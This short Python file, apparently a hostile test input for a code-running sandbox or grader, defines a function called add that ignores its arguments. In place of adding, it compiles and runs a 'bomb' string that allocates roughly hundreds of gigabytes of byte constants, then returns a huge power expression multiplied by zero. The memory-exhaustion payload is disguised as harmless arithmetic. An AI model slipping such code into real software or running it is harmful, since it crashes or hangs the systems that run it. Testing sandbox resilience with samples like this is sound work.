SOURCE = "x = " + "(" + "b'a' * 100000000," * 2000 + ")"


def add(a, b):
    exec(compile(SOURCE, "bomb", "exec"), {})
    return ((1 << 7) ** 40) ** 40 * 0
